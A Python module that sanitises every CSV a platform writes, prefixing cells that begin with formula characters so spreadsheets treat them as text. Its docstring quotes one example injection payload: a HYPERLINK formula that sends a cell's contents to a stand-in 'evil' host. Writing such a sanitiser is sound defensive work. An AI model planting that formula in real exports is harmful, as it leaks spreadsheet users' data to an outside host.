"""Every CSV the platform writes goes through here, so that none can run in a spreadsheet.

A cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage return is a formula to
Excel, LibreOffice and Google Sheets (CSV injection): a team named
`=HYPERLINK("http://evil"&A1,"Click")` would run on the organizer's machine. Such a cell is
written with a leading apostrophe, which spreadsheets show as text and which a reader can
strip. Numbers stay numbers: a float, an int or a string that is a plain decimal number
(`-0.25`, `+3`, `1e-05`) is written as it is; booleans are written true/false.

    writer = csv_safe.writer(file)        # csv.writer's writerow / writerows, made safe
    csv_safe.write_rows(file, rows)       # the same in one call

No Django in here: the demo data, commands and views all use it.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable
from decimal import Decimal
from typing import Any

__all__ = ["FORMULA_STARTS", "SafeWriter", "safe_cell", "write_rows", "writer"]

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[+-]?(?:\d+\.?\d*|\.\d+)(?:[eE][+-]?\d+)?")


def safe_cell(value: Any) -> Any:
    """The value as a CSV cell that no spreadsheet runs as a formula (booleans written
    true/false, as other CSV readers expect them, not Python's True/False)."""
    if isinstance(value, bool):
        return "true" if value else "false"
    if value is None or isinstance(value, int | float | Decimal):
        return value
    text = str(value)
    if text.startswith(FORMULA_STARTS) and not _NUMBER.fullmatch(text):
        return "'" + text
    return text


class SafeWriter:
    """csv.writer (LF line ends unless told otherwise) whose every cell is `safe_cell`ed.
    writerow returns what the file's write returned, as csv.writer does (streaming views
    write to an object whose write returns the line)."""

    def __init__(self, file, **options) -> None:
        options.setdefault("lineterminator", "\n")
        self._writer = csv.writer(file, **options)

    def writerow(self, row: Iterable[Any]):
        return self._writer.writerow([safe_cell(value) for value in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def writer(file, **options) -> SafeWriter:
    return SafeWriter(file, **options)


def write_rows(file, rows: Iterable[Iterable[Any]], **options) -> None:
    """Write every row (a header is just the first row) to a text file."""
    SafeWriter(file, **options).writerows(rows)
